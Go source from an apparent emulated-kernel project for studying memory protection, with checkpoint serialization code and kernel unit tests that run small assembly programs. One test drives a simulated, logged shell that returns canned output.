			t.Errorf("Event.%s dropped or corrupted by the JSON round trip: got %v, want %v",
				ev.Field(i).Name, gv.Field(i).Interface(), ov.Field(i).Interface())
		}
	}
}

// TestEventKindsEnumerated fails when a new EventKind constant is added
// without extending the eventKinds table (which UnmarshalJSON and the
// round-trip test above depend on).
func TestEventKindsEnumerated(t *testing.T) {
	seen := map[string]EventKind{}
	for _, k := range eventKinds {
		if k.String() == "unknown" {
			t.Errorf("eventKinds contains %d which has no String() name", k)
		}
		if prev, dup := seen[k.String()]; dup {
			t.Errorf("kinds %d and %d share the name %q", prev, k, k.String())
		}
		seen[k.String()] = k
	}
	// Kinds are a dense iota block starting at 1: probe one past the last
	// known kind; if it has a name, the table is stale.
	next := eventKinds[len(eventKinds)-1] + 1
	if next.String() != "unknown" {
		t.Errorf("EventKind %d (%q) is not in eventKinds — extend the table and the round-trip test", next, next.String())
	}
}
