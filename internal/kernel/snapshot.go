package kernel

import (
	"sort"

	"splitmem/internal/cpu"
	"splitmem/internal/paging"
	"splitmem/internal/snapshot"
)

// ProtStateCodec is implemented by protection engines whose state must
// survive a checkpoint: engine-wide counters plus whatever per-process state
// they keep in Process.ProtData. Engines without state (Unprotected) simply
// don't implement it; the kernel then serializes empty blobs.
type ProtStateCodec interface {
	EncodeEngineState(w *snapshot.Writer)
	DecodeEngineState(r *snapshot.Reader) error
	EncodeProcState(p *Process, w *snapshot.Writer)
	DecodeProcState(p *Process, r *snapshot.Reader) error
}

// maxRNGReplay bounds the stack-randomization draw counter a decoded image
// may demand, so a corrupt count cannot stall restore replaying the stream.
const maxRNGReplay = 1 << 20

// EncodeState serializes the kernel: process table (sorted by PID so the
// image is a pure function of state, not of map iteration), run queue,
// pipes, the event ring with its lifetime cursors, counters, and the
// protection engine's state via ProtStateCodec. The stdin buffers are
// serialized through an identity table because forked children share their
// parent's buffer the way dup'd descriptors share a socket — restoring them
// as separate buffers would break post-restore reads.
func (k *Kernel) EncodeState(w *snapshot.Writer) {
	w.U64(k.rngDraws)
	w.Int(k.nextPID)
	w.U64(k.syscalls)
	w.U64(k.faultsGen)
	w.U64(k.spurious)
	w.Int(k.dropped)
	w.Int(k.seqBase)

	w.U32(uint32(len(k.events)))
	for i := range k.events {
		encodeEvent(w, &k.events[i])
	}

	w.Int(k.nextPipe)
	ids := make([]int, 0, len(k.pipes))
	for id := range k.pipes {
		ids = append(ids, id)
	}
	sort.Ints(ids)
	w.U32(uint32(len(ids)))
	for _, id := range ids {
		pi := k.pipes[id]
		w.Int(id)
		w.Bytes32(pi.buf)
		w.Int(pi.readers)
		w.Int(pi.writers)
		encodeInts(w, pi.waitR)
		encodeInts(w, pi.waitW)
	}

	procs := k.Processes()
	stdinID := map[*stdinBuf]int{}
	var stdins []*stdinBuf
	for _, p := range procs {
		if _, ok := stdinID[p.stdin]; !ok {
			stdinID[p.stdin] = len(stdins)
			stdins = append(stdins, p.stdin)
		}
	}
	w.U32(uint32(len(stdins)))
	for _, sb := range stdins {
		w.Bytes32(sb.data)
		w.Bool(sb.eof)
	}

	codec, _ := k.prot.(ProtStateCodec)
	w.U32(uint32(len(procs)))
	for _, p := range procs {
		encodeProcess(w, p, stdinID, codec)
	}

	encodeInts(w, k.runq)
	cur := 0
	if k.cur != nil {
		cur = k.cur.PID
	}
	w.Int(cur)

	sub := snapshot.NewWriter()
	if codec != nil {
		codec.EncodeEngineState(sub)
	}
	w.Bytes32(sub.Bytes())
}

// DecodeState restores state serialized by EncodeState into a freshly
// constructed kernel (same Config). The stack-randomization RNG is replayed
// to its recorded position so post-restore Spawn calls draw the same slides
// the uninterrupted run would have.
func (k *Kernel) DecodeState(r *snapshot.Reader) error {
	draws := r.U64()
	if draws > maxRNGReplay {
		return snapshot.Corruptf("kernel: rng draw count %d out of range", draws)
	}
	k.nextPID = r.Int()
	if r.Err() == nil && k.nextPID < 1 {
		return snapshot.Corruptf("kernel: next pid %d out of range", k.nextPID)
	}
	k.syscalls = r.U64()
	k.faultsGen = r.U64()
	k.spurious = r.U64()
	k.dropped = r.Int()
	k.seqBase = r.Int()

	ne := r.U32()
	if r.Err() == nil && int(ne) > k.cfg.MaxEvents {
		return snapshot.Corruptf("kernel: %d events exceeds ring capacity %d", ne, k.cfg.MaxEvents)
	}
	k.events = nil
	for i := uint32(0); i < ne && r.Err() == nil; i++ {
		k.events = append(k.events, decodeEvent(r))
	}

	k.nextPipe = r.Int()
	np := r.U32()
	k.pipes = map[int]*pipe{}
	for i := uint32(0); i < np && r.Err() == nil; i++ {
		id := r.Int()
		pi := &pipe{}
		pi.buf = r.Bytes32()
		pi.readers = r.Int()
		pi.writers = r.Int()
		pi.waitR = decodeInts(r)
		pi.waitW = decodeInts(r)
		if _, dup := k.pipes[id]; dup {
			return snapshot.Corruptf("kernel: duplicate pipe id %d", id)
		}
		k.pipes[id] = pi
	}

	ns := r.U32()
	var stdins []*stdinBuf
	for i := uint32(0); i < ns && r.Err() == nil; i++ {
		sb := &stdinBuf{}
		sb.data = r.Bytes32()
		sb.eof = r.Bool()
		stdins = append(stdins, sb)
	}

	codec, _ := k.prot.(ProtStateCodec)
	pn := r.U32()
	k.procs = map[int]*Process{}
	for i := uint32(0); i < pn && r.Err() == nil; i++ {
		p, err := decodeProcess(r, stdins, codec)
		if err != nil {
			return err
		}
		if _, dup := k.procs[p.PID]; dup {
			return snapshot.Corruptf("kernel: duplicate pid %d", p.PID)
		}
		k.procs[p.PID] = p
	}

	k.runq = decodeInts(r)
	curPID := r.Int()
	if curPID == 0 {
		k.cur = nil
	} else if p, ok := k.procs[curPID]; ok {
		k.cur = p
	} else if r.Err() == nil {
		return snapshot.Corruptf("kernel: current pid %d not in process table", curPID)
	}

	blob := r.Bytes32()
	if codec != nil {
		sub := snapshot.NewReader(blob)
		if err := codec.DecodeEngineState(sub); err != nil {
			return err
		}
		if err := sub.Err(); err != nil {
			return err
		}
	} else if len(blob) != 0 {
		return snapshot.Corruptf("kernel: engine state present but protector %q keeps none", k.prot.Name())
	}
	if err := r.Err(); err != nil {
		return err
	}

	for i := uint64(0); i < draws; i++ {
		k.rand().Intn(256)
	}
	k.rngDraws = draws
	return nil
}

func encodeEvent(w *snapshot.Writer, ev *Event) {
	w.Int(int(ev.Kind))
	w.Int(ev.PID)
	w.String(ev.Proc)
	w.U64(ev.Cycles)
	w.U32(ev.Addr)
	w.Int(int(ev.Signal))
	w.String(ev.Text)
	// Data distinguishes nil from empty: the two marshal differently in the
	// NDJSON event stream, and restore must reproduce those bytes exactly.
	w.Bool(ev.Data != nil)
	w.Bytes32(ev.Data)
	w.String(ev.Trace)
}

func decodeEvent(r *snapshot.Reader) Event {
	var ev Event
	ev.Kind = EventKind(r.Int())
	ev.PID = r.Int()
	ev.Proc = r.String()
	ev.Cycles = r.U64()
	ev.Addr = r.U32()
	ev.Signal = Signal(r.Int())
	ev.Text = r.String()
	hasData := r.Bool()
	ev.Data = r.Bytes32()
	if !hasData {
		ev.Data = nil
	}
	ev.Trace = r.String()
	return ev
}

func encodeProcess(w *snapshot.Writer, p *Process, stdinID map[*stdinBuf]int, codec ProtStateCodec) {
	w.Int(p.PID)
	w.String(p.Name)
	encodeContext(w, &p.Ctx)
	p.PT.EncodeState(w)
	w.Int(int(p.state))
	w.Int(p.exitCode)
	w.Int(int(p.killSig))
	w.U32(p.faultAddr)
	heapIdx := -1
	w.U32(uint32(len(p.regions)))
	for i := range p.regions {
		reg := &p.regions[i]
		w.U32(reg.Start)
		w.U32(reg.End)
		w.U8(reg.Perm)
		w.String(reg.Name)
		if p.heap == reg {
			heapIdx = i
		}
	}
	w.Int(heapIdx)
	w.U32(p.brk)
	w.U32(p.mmapTop)
	w.U32(uint32(len(p.fds)))
	for _, fd := range p.fds {
		w.Int(int(fd.kind))
		w.Int(fd.pipe)
		w.Bool(fd.read)
	}
	w.Int(stdinID[p.stdin])
	w.Bool(p.outbuf != nil)
	w.Bytes32(p.outbuf)
	w.Bool(p.sebek)
	w.Int(p.parent)
	kids := make([]int, 0, len(p.children))
	for pid := range p.children {
		kids = append(kids, pid)
	}
	sort.Ints(kids)
	encodeInts(w, kids)
	w.Bool(p.waitAny)
	w.Int(p.waitPID)
	w.Bool(p.shellSpawned)
	w.U32(p.RecoveryHandler)
	w.U32(p.initialSP)
	w.U32(p.PendingSplit)
	w.Bool(p.PendingSplitValid)
	sub := snapshot.NewWriter()
	if codec != nil {
		codec.EncodeProcState(p, sub)
	}
	w.Bytes32(sub.Bytes())
}

func decodeProcess(r *snapshot.Reader, stdins []*stdinBuf, codec ProtStateCodec) (*Process, error) {
	p := &Process{}
	p.PID = r.Int()
	p.Name = r.String()
	decodeContext(r, &p.Ctx)
	p.PT = newDecodedTable(r)
	p.state = procState(r.Int())
	if r.Err() == nil && (p.state < stateRunnable || p.state > stateKilled) {
		return nil, snapshot.Corruptf("kernel: pid %d state %d out of range", p.PID, p.state)
	}
	p.exitCode = r.Int()
	p.killSig = Signal(r.Int())
	p.faultAddr = r.U32()
	nr := r.U32()
	if int64(nr) > int64(r.Remaining()/13) {
		return nil, snapshot.ErrTruncated
	}
	p.regions = make([]Region, nr)
	for i := range p.regions {
		reg := &p.regions[i]
		reg.Start = r.U32()
		reg.End = r.U32()
		reg.Perm = r.U8()
		reg.Name = r.String()
	}
	heapIdx := r.Int()
	if r.Err() == nil && (heapIdx < -1 || heapIdx >= len(p.regions)) {
		return nil, snapshot.Corruptf("kernel: pid %d heap index %d out of range", p.PID, heapIdx)
	}
	if heapIdx >= 0 {
		p.heap = &p.regions[heapIdx]
	}
	p.brk = r.U32()
	p.mmapTop = r.U32()
	nf := r.U32()
	if int64(nf) > int64(r.Remaining()/17) {
		return nil, snapshot.ErrTruncated
	}
	p.fds = make([]fdesc, nf)
	for i := range p.fds {
		p.fds[i].kind = fdKind(r.Int())
		if r.Err() == nil && (p.fds[i].kind < fdClosed || p.fds[i].kind > fdPipe) {
			return nil, snapshot.Corruptf("kernel: pid %d fd %d kind out of range", p.PID, i)
		}
		p.fds[i].pipe = r.Int()
		p.fds[i].read = r.Bool()
	}
	sid := r.Int()
	if r.Err() == nil && (sid < 0 || sid >= len(stdins)) {
		return nil, snapshot.Corruptf("kernel: pid %d stdin id %d out of range", p.PID, sid)
	}
	if r.Err() == nil {
		p.stdin = stdins[sid]
	}
	hasOut := r.Bool()
	p.outbuf = r.Bytes32()
	if !hasOut {
		p.outbuf = nil
	}
	p.sebek = r.Bool()
	p.parent = r.Int()
	p.children = map[int]bool{}
	for _, pid := range decodeInts(r) {
		p.children[pid] = true
	}
	p.waitAny = r.Bool()
	p.waitPID = r.Int()
	p.shellSpawned = r.Bool()
	p.RecoveryHandler = r.U32()
	p.initialSP = r.U32()
	p.PendingSplit = r.U32()
	p.PendingSplitValid = r.Bool()
	blob := r.Bytes32()
	if err := r.Err(); err != nil {
		return nil, err
	}
	if codec != nil {
		sub := snapshot.NewReader(blob)
		if err := codec.DecodeProcState(p, sub); err != nil {
			return nil, err
		}
		if err := sub.Err(); err != nil {
			return nil, err
		}
	} else if len(blob) != 0 {
		return nil, snapshot.Corruptf("kernel: pid %d has protector state but protector keeps none", p.PID)
	}
	return p, nil
}

// newDecodedTable decodes a pagetable in place, folding failures into the
// reader's sticky error so process decoding stays straight-line.
func newDecodedTable(r *snapshot.Reader) *paging.Table {
	t := new(paging.Table)
	if err := t.DecodeState(r); err != nil {
		r.Fail(err)
	}
	return t
}

func encodeContext(w *snapshot.Writer, c *cpu.Context) {
	for _, reg := range c.R {
		w.U32(reg)
	}
	w.U32(c.EIP)
	w.Bool(c.Flags.ZF)
	w.Bool(c.Flags.SF)
	w.Bool(c.Flags.OF)
	w.Bool(c.Flags.CF)
	w.Bool(c.Flags.TF)
}

func decodeContext(r *snapshot.Reader, c *cpu.Context) {
	for i := range c.R {
		c.R[i] = r.U32()
	}
	c.EIP = r.U32()
	c.Flags.ZF = r.Bool()
	c.Flags.SF = r.Bool()
	c.Flags.OF = r.Bool()
	c.Flags.CF = r.Bool()
	c.Flags.TF = r.Bool()
}

func encodeInts(w *snapshot.Writer, v []int) {
	w.U32(uint32(len(v)))
	for _, x := range v {
		w.Int(x)
	}
}

func decodeInts(r *snapshot.Reader) []int {
	n := r.U32()
	if int64(n) > int64(r.Remaining()/8) {
		r.Fail(snapshot.ErrTruncated)
		return nil
	}
	out := make([]int, 0, n)
	for i := uint32(0); i < n; i++ {
		out = append(out, r.Int())
	}
	return out
}
