package kernel

import (
	"strings"
	"testing"

	"splitmem/internal/asm"
	"splitmem/internal/cpu"
	"splitmem/internal/isa"
	"splitmem/internal/loader"
)

func newKernel(t *testing.T, cfg Config) *Kernel {
	t.Helper()
	if cfg.Machine == nil {
		m, err := cpu.New(cpu.Config{PhysBytes: 8 << 20})
		if err != nil {
			t.Fatal(err)
		}
		cfg.Machine = m
	}
	k, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return k
}

func spawn(t *testing.T, k *Kernel, src, name string) *Process {
	t.Helper()
	prog, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	p, err := k.Spawn(prog, ProcOptions{Name: name})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

const exitSrc = `
_start:
    mov ebx, 5
    mov eax, 1
    int 0x80
`

func TestSpawnAndExit(t *testing.T) {
	k := newKernel(t, Config{})
	p := spawn(t, k, exitSrc, "exit5")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	exited, status := p.Exited()
	if !exited || status != 5 {
		t.Fatalf("exited=%v status=%d", exited, status)
	}
	if !strings.Contains(p.Name, "exit5") {
		t.Fatalf("name=%q", p.Name)
	}
}

// TestFrameConservation: after every process exits, all frames return to
// the free pool — the §5.4 teardown requirement, checked for fork trees,
// COW, pipes and demand-paged heaps.
func TestFrameConservation(t *testing.T) {
	src := `
_start:
    ; grow the heap and dirty it
    mov ebx, 0
    mov eax, 45
    int 0x80
    mov ebx, eax
    add ebx, 65536
    mov eax, 45
    int 0x80
    mov ecx, eax
    sub ecx, 100
    mov edx, 7
    storeb [ecx], edx
    ; fork twice; children write to COW pages then exit
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    ; parent reaps both
    mov ebx, -1
    mov ecx, 0
    mov eax, 7
    int 0x80
    mov ebx, -1
    mov ecx, 0
    mov eax, 7
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
child:
    mov esi, datum
    mov edx, 42
    storeb [esi], edx      ; break a COW page
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
datum: .word 0
`
	k := newKernel(t, Config{})
	free0 := k.Phys().FreeFrames()
	p := spawn(t, k, src, "forker")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if exited, status := p.Exited(); !exited || status != 0 {
		t.Fatalf("exited=%v status=%d", exited, status)
	}
	if got := k.Phys().FreeFrames(); got != free0 {
		t.Fatalf("leaked frames: %d free, started with %d", got, free0)
	}
}

func TestCOWSemantics(t *testing.T) {
	// Parent writes a value, forks; child overwrites; parent must still
	// see its own value after the child exits.
	src := `
_start:
    mov esi, shared
    mov edx, 1
    storeb [esi], edx
    mov eax, 2             ; fork
    int 0x80
    cmp eax, 0
    jz child
    mov ebx, -1            ; waitpid
    mov ecx, 0
    mov eax, 7
    int 0x80
    mov esi, shared
    loadb ebx, [esi]       ; parent's view -> exit status
    mov eax, 1
    int 0x80
child:
    mov esi, shared
    mov edx, 99
    storeb [esi], edx
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
shared: .word 0
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "cow")
	k.Run(0)
	exited, status := p.Exited()
	if !exited || status != 1 {
		t.Fatalf("exited=%v status=%d: child write leaked into parent", exited, status)
	}
}

func TestWaitpidStatus(t *testing.T) {
	// Child exits 3; parent receives pid and status<<8 via the status ptr.
	src := `
_start:
    mov eax, 2
    int 0x80
    cmp eax, 0
    jz child
    mov esi, eax           ; child pid
    mov ebx, -1
    mov ecx, stat
    mov eax, 7
    int 0x80
    cmp eax, esi           ; waitpid must return the child pid
    jnz bad
    mov ecx, stat
    load ebx, [ecx]
    shr ebx, 8             ; status>>8 == exit code
    mov eax, 1
    int 0x80
bad:
    mov ebx, 77
    mov eax, 1
    int 0x80
child:
    mov ebx, 3
    mov eax, 1
    int 0x80
.data
stat: .word 0
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "waiter")
	k.Run(0)
	_, status := p.Exited()
	if status != 3 {
		t.Fatalf("status=%d", status)
	}
}

func TestWaitpidNoChildren(t *testing.T) {
	src := `
_start:
    mov ebx, -1
    mov ecx, 0
    mov eax, 7             ; waitpid with no children
    int 0x80
    mov ebx, eax
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "nochild")
	k.Run(0)
	_, status := p.Exited()
	if int32(status) != -errECHILD {
		t.Fatalf("status=%d want %d", int32(status), -errECHILD)
	}
}

func TestPipeEOFAndBadFD(t *testing.T) {
	src := `
_start:
    mov ebx, fds
    mov eax, 42            ; pipe
    int 0x80
    ; close the write end
    mov esi, fds
    load ebx, [esi+4]
    mov eax, 6             ; close
    int 0x80
    ; read -> EOF (0)
    mov esi, fds
    load ebx, [esi]
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    cmp eax, 0
    jnz bad
    ; read from a bogus fd -> -EBADF
    mov ebx, 99
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    cmp eax, -9
    jnz bad
    mov ebx, 0
    mov eax, 1
    int 0x80
bad:
    mov ebx, 1
    mov eax, 1
    int 0x80
.data
fds: .word 0, 0
buf: .space 8
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "pipeeof")
	k.Run(0)
	if _, status := p.Exited(); status != 0 {
		t.Fatalf("status=%d", status)
	}
}

func TestDeadlockDetection(t *testing.T) {
	// A single process reading from an empty pipe that still has a writer
	// can never proceed: Run must report deadlock, not spin.
	src := `
_start:
    mov ebx, fds
    mov eax, 42
    int 0x80
    mov esi, fds
    load ebx, [esi]
    mov ecx, buf
    mov edx, 4
    mov eax, 3             ; read: blocks forever (we hold the write end)
    int 0x80
    mov ebx, 0
    mov eax, 1
    int 0x80
.data
fds: .word 0, 0
buf: .space 8
`
	k := newKernel(t, Config{})
	spawn(t, k, src, "deadlock")
	res := k.Run(0)
	if res.Reason != ReasonDeadlock {
		t.Fatalf("reason=%v", res.Reason)
	}
}

func TestWaitingInputThenResume(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov ecx, buf
    mov edx, 4
    mov eax, 3
    int 0x80
    mov ecx, buf
    loadb ebx, [ecx]
    mov eax, 1
    int 0x80
.data
buf: .space 8
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "reader")
	res := k.Run(0)
	if res.Reason != ReasonWaitingInput {
		t.Fatalf("reason=%v", res.Reason)
	}
	p.StdinWrite([]byte{42, 0, 0, 0})
	res = k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if _, status := p.Exited(); status != 42 {
		t.Fatalf("status=%d", status)
	}
}

func TestSchedulerFairness(t *testing.T) {
	// Two spinning processes must both finish despite no blocking: the
	// timeslice preempts them.
	src := `
_start:
    mov ecx, 200000
spin:
    dec ecx
    cmp ecx, 0
    jnz spin
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{Timeslice: 10_000})
	p1 := spawn(t, k, src, "spin1")
	p2 := spawn(t, k, src, "spin2")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	if e1, _ := p1.Exited(); !e1 {
		t.Fatal("p1 did not finish")
	}
	if e2, _ := p2.Exited(); !e2 {
		t.Fatal("p2 did not finish")
	}
	if k.Machine().Stats.CtxSwitches < 10 {
		t.Fatalf("expected many preemptions, got %d", k.Machine().Stats.CtxSwitches)
	}
}

func TestSegfaultReporting(t *testing.T) {
	src := `
_start:
    mov ebx, 0xdead0000
    load eax, [ebx]
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "segv")
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != SIGSEGV {
		t.Fatalf("killed=%v sig=%v", killed, sig)
	}
	if p.FaultAddr() != 0xdead0000 {
		t.Fatalf("fault addr=%#x", p.FaultAddr())
	}
	evs := k.EventsOf(EvSignal)
	if len(evs) != 1 || evs[0].Signal != SIGSEGV {
		t.Fatalf("events=%v", evs)
	}
}

func TestBrkGrowShrink(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov eax, 45            ; brk(0) -> current
    int 0x80
    mov esi, eax
    mov ebx, esi
    add ebx, 8192
    mov eax, 45            ; grow 2 pages
    int 0x80
    ; touch both pages
    mov edx, 1
    storeb [esi], edx
    storeb [esi+4096], edx
    ; shrink back
    mov ebx, esi
    mov eax, 45
    int 0x80
    ; touching the released page must now fault (the kernel kills us with
    ; SIGSEGV, which the test asserts)
    storeb [esi+4096], edx
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "brk")
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != SIGSEGV {
		t.Fatalf("killed=%v sig=%v: shrunk heap page still mapped", killed, sig)
	}
}

func TestMmapAndMprotect(t *testing.T) {
	src := `
_start:
    mov ebx, 0
    mov ecx, 8192
    mov edx, 3             ; rw
    mov eax, 90            ; mmap
    int 0x80
    mov esi, eax
    mov edx, 5
    storeb [esi], edx      ; writable
    ; mprotect(esi, 4096, r)
    mov ebx, esi
    mov ecx, 4096
    mov edx, 1
    mov eax, 125
    int 0x80
    cmp eax, 0
    jnz bad
    storeb [esi], edx      ; now read-only -> SIGSEGV
bad:
    mov ebx, 1
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "mmap")
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != SIGSEGV {
		t.Fatalf("killed=%v sig=%v: write-after-mprotect should fault", killed, sig)
	}
}

func TestMprotectErrors(t *testing.T) {
	src := `
_start:
    ; unaligned address -> -EINVAL
    mov ebx, 0x40000001
    mov ecx, 4096
    mov edx, 1
    mov eax, 125
    int 0x80
    cmp eax, -22
    jnz bad
    ; unmapped region -> -ENOMEM
    mov ebx, 0x70000000
    mov ecx, 4096
    mov edx, 1
    mov eax, 125
    int 0x80
    cmp eax, -12
    jnz bad
    mov ebx, 0
    mov eax, 1
    int 0x80
bad:
    mov ebx, 1
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "mprotect-err")
	k.Run(0)
	if _, status := p.Exited(); status != 0 {
		t.Fatalf("status=%d", status)
	}
}

func TestCopyUserCrossPage(t *testing.T) {
	k := newKernel(t, Config{})
	p := spawn(t, k, exitSrc, "copy")
	// Write across the stack page boundary through the kernel interface.
	base := p.Ctx.R[isa.ESP] - 8200
	data := make([]byte, 8000)
	for i := range data {
		data[i] = byte(i)
	}
	if err := k.CopyToUser(p, base, data); err != nil {
		t.Fatal(err)
	}
	got, err := k.CopyFromUser(p, base, len(data))
	if err != nil {
		t.Fatal(err)
	}
	for i := range data {
		if got[i] != data[i] {
			t.Fatalf("byte %d: %d != %d", i, got[i], data[i])
		}
	}
	// EFAULT outside any region.
	if err := k.CopyToUser(p, 0xdddd0000, []byte{1}); err == nil {
		t.Fatal("expected EFAULT")
	}
	if _, err := k.CopyFromUser(p, 0xdddd0000, 1); err == nil {
		t.Fatal("expected EFAULT")
	}
}

func TestCopyStringFromUser(t *testing.T) {
	k := newKernel(t, Config{})
	p := spawn(t, k, exitSrc, "str")
	base := p.Ctx.R[isa.ESP] - 64
	if err := k.CopyToUser(p, base, []byte("hello\x00world")); err != nil {
		t.Fatal(err)
	}
	s, err := k.CopyStringFromUser(p, base, 32)
	if err != nil || s != "hello" {
		t.Fatalf("s=%q err=%v", s, err)
	}
	// Unterminated string is capped at max.
	if err := k.CopyToUser(p, base, []byte("AAAAAAAA")); err != nil {
		t.Fatal(err)
	}
	s, err = k.CopyStringFromUser(p, base, 4)
	if err != nil || len(s) != 4 {
		t.Fatalf("s=%q err=%v", s, err)
	}
}

func TestStackRandomization(t *testing.T) {
	sps := map[uint32]bool{}
	for seed := int64(0); seed < 4; seed++ {
		k := newKernel(t, Config{RandomizeStack: true, RandSeed: seed})
		p := spawn(t, k, exitSrc, "rand")
		sps[p.Ctx.R[isa.ESP]] = true
	}
	if len(sps) < 2 {
		t.Fatalf("stack not randomized: %v", sps)
	}
	// Determinism: same seed, same placement.
	k1 := newKernel(t, Config{RandomizeStack: true, RandSeed: 9})
	k2 := newKernel(t, Config{RandomizeStack: true, RandSeed: 9})
	p1 := spawn(t, k1, exitSrc, "a")
	p2 := spawn(t, k2, exitSrc, "b")
	if p1.Ctx.R[isa.ESP] != p2.Ctx.R[isa.ESP] {
		t.Fatal("same seed must give the same layout")
	}
}

func TestEventRingBuffer(t *testing.T) {
	k := newKernel(t, Config{MaxEvents: 4})
	for i := 0; i < 10; i++ {
		k.Emit(Event{Kind: EvSebekLine, Text: "x"})
	}
	if len(k.Events()) != 4 {
		t.Fatalf("events=%d want 4 (ring capped)", len(k.Events()))
	}
	k.ClearEvents()
	if len(k.Events()) != 0 {
		t.Fatal("events not cleared")
	}
}

func TestEventHook(t *testing.T) {
	var kinds []EventKind
	k := newKernel(t, Config{EventHook: func(e Event) { kinds = append(kinds, e.Kind) }})
	spawn(t, k, exitSrc, "hook")
	k.Run(0)
	if len(kinds) < 2 || kinds[0] != EvProcessStart {
		t.Fatalf("kinds=%v", kinds)
	}
}

func TestShellRespond(t *testing.T) {
	tests := map[string]string{
		"id":         "uid=0(root)",
		"whoami":     "root",
		"uname -a":   "Linux",
		"echo hi":    "hi\n",
		"ls":         "bin",
		"frobnicate": "command not found",
		"":           "",
	}
	for cmd, want := range tests {
		got := shellRespond(cmd)
		if want == "" && got != "" {
			t.Errorf("%q -> %q", cmd, got)
		} else if want != "" && !strings.Contains(got, want) {
			t.Errorf("%q -> %q (want %q)", cmd, got, want)
		}
	}
}

func TestTakeLine(t *testing.T) {
	buf := []byte("one\r\ntwo\nrest")
	l, ok := takeLine(&buf)
	if !ok || l != "one" {
		t.Fatalf("l=%q ok=%v", l, ok)
	}
	l, ok = takeLine(&buf)
	if !ok || l != "two" {
		t.Fatalf("l=%q", l)
	}
	if _, ok := takeLine(&buf); ok {
		t.Fatal("partial line should not be returned")
	}
	if string(buf) != "rest" {
		t.Fatalf("buf=%q", buf)
	}
}

func TestExecveShellFlow(t *testing.T) {
	src := `
_start:
    mov ebx, path
    mov eax, 11            ; execve
    int 0x80
.data
path: .asciz "/bin/sh"
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "sh")
	k.ArmSebek(p)
	res := k.Run(0)
	if res.Reason != ReasonWaitingInput {
		t.Fatalf("reason=%v", res.Reason)
	}
	if !p.ShellSpawned() {
		t.Fatal("no shell event")
	}
	evs := k.EventsOf(EvShellSpawned)
	if len(evs) != 1 || evs[0].Text != "/bin/sh" {
		t.Fatalf("events=%v", evs)
	}
	p.StdinWrite([]byte("whoami\nexit\n"))
	k.Run(0)
	out := string(p.StdoutDrain())
	if !strings.Contains(out, "root") {
		t.Fatalf("out=%q", out)
	}
	var sebekSawCmd bool
	for _, ev := range k.EventsOf(EvSebekLine) {
		if strings.Contains(ev.Text, "whoami") {
			sebekSawCmd = true
		}
	}
	if !sebekSawCmd {
		t.Fatal("sebek log missing the command")
	}
	if exited, _ := p.Exited(); !exited {
		t.Fatal("shell should exit on 'exit'")
	}
}

func TestSpawnValidation(t *testing.T) {
	k := newKernel(t, Config{})
	if _, err := k.Spawn(&loader.Program{}, ProcOptions{}); err == nil {
		t.Fatal("empty program must be rejected")
	}
	// Overlapping sections are rejected by Validate before mapping.
	bad := &loader.Program{
		Entry: 0x1000,
		Sections: []loader.Section{
			{Name: "a", Addr: 0x1000, Size: 8192, Perm: loader.PermR | loader.PermX},
			{Name: "b", Addr: 0x2000, Size: 4096, Perm: loader.PermR | loader.PermW},
		},
	}
	if _, err := k.Spawn(bad, ProcOptions{}); err == nil {
		t.Fatal("overlapping sections must be rejected")
	}
}

func TestYieldRotation(t *testing.T) {
	// Two processes yield in a loop; both must finish with far fewer
	// cycles than a timeslice would force.
	src := `
_start:
    mov esi, 50
yloop:
    mov eax, 158           ; sched_yield
    int 0x80
    dec esi
    cmp esi, 0
    jnz yloop
    mov ebx, 0
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p1 := spawn(t, k, src, "y1")
	p2 := spawn(t, k, src, "y2")
	res := k.Run(0)
	if res.Reason != ReasonAllDone {
		t.Fatalf("reason=%v", res.Reason)
	}
	e1, _ := p1.Exited()
	e2, _ := p2.Exited()
	if !e1 || !e2 {
		t.Fatal("yielders did not finish")
	}
	if k.Machine().Stats.CtxSwitches < 50 {
		t.Fatalf("yield should context switch, got %d", k.Machine().Stats.CtxSwitches)
	}
}

func TestUnknownSyscall(t *testing.T) {
	src := `
_start:
    mov eax, 9999
    int 0x80
    mov ebx, eax
    mov eax, 1
    int 0x80
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "nosys")
	k.Run(0)
	_, status := p.Exited()
	if int32(status) != -errENOSYS {
		t.Fatalf("status=%d", int32(status))
	}
}

func TestNonSyscallInterruptKills(t *testing.T) {
	src := `
_start:
    int 0x21
`
	k := newKernel(t, Config{})
	p := spawn(t, k, src, "dos")
	k.Run(0)
	killed, sig := p.Killed()
	if !killed || sig != SIGSEGV {
